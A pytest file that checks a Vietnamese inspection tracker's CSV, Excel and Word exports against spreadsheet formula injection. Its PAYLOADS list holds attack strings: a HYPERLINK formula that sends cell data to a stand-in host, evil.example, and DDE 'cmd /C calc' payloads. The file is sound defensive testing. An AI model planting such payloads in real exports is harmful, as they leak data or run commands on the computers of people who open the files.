"""Exports are safe to open: text an officer typed never becomes a live formula in the CSV or the
Excel workbook, and the Word report shows it exactly as typed."""

import csv
import io
import zipfile
from datetime import date

import openpyxl
import pytest
from docx import Document

from tracker.extensions import db
from tracker.reports.columns import FORMULA_PREFIXES, neutralise

from factories import items_of, make_inspection, make_unit, make_user

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
LEGITIMATE = "- Một số xã chưa niêm yết công khai thủ tục hành chính <đúng> & đủ."


@pytest.fixture
def exported(client, auth):
    """A commune's item whose finding, remedy and progress hold formula payloads; signed in as
    the coordinator. Returns the inspection id."""
    unit = make_unit("=Xã Lạ")
    make_user("coordinator", email="noivu@test.vn")
    inspection = make_inspection([unit], findings=len(PAYLOADS) + 1, deadline=date(2026, 12, 31))
    items = items_of(inspection)
    for item, text in zip(items, PAYLOADS + [LEGITIMATE]):
        item.finding.text = text
        item.remedy, item.progress = text, LEGITIMATE
    db.session.commit()
    auth.login("noivu@test.vn")
    return inspection.id


def test_neutralise_only_adds_the_prefix():
    """Only the leading apostrophe is added; ordinary text is untouched."""
    assert neutralise(LEGITIMATE) == "'" + LEGITIMATE
    assert neutralise("Xã Canh Nậu") == "Xã Canh Nậu"
    assert neutralise("") == ""


def test_csv_has_no_formula_cell(client, exported):
    """Every CSV cell that would start a formula starts with an apostrophe instead, the rest kept."""
    data = client.get(f"/inspections/{exported}/export.csv").data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(data, newline="")))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]
    for payload in PAYLOADS:
        assert "'" + payload in cells
    assert "'" + LEGITIMATE in cells and any("=Xã Lạ" in cell for cell in cells)


def test_excel_has_no_formula_cell(client, exported):
    """The workbook holds no formula at all; the texts are string cells exactly as typed."""
    data = client.get(f"/inspections/{exported}/export.xlsx").data
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in sheet or "<f " in sheet for sheet in sheets)
    book = openpyxl.load_workbook(io.BytesIO(data))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                values.append(cell.value)
    assert PAYLOADS[0] in values and LEGITIMATE in values


def test_word_report_shows_the_text_as_typed(client, exported):
    """The Word report neither drops nor escapes twice: "<đúng> & đủ" reads as typed."""
    response = client.get(f"/inspections/{exported}/report.docx")
    assert response.status_code == 200
    document = Document(io.BytesIO(response.data))
    text = "\n".join([p.text for p in document.paragraphs]
                     + [cell.text for table in document.tables for row in table.rows for cell in row.cells])
    assert LEGITIMATE in text and PAYLOADS[0] in text
    assert "&amp;" not in text and "&lt;" not in text


def test_csv_is_streamed(client, exported):
    """The CSV leaves in chunks as rows are read, so a large export starts at once."""
    response = client.get(f"/inspections/{exported}/export.csv")
    assert response.is_streamed and response.data.startswith("\ufeff".encode())
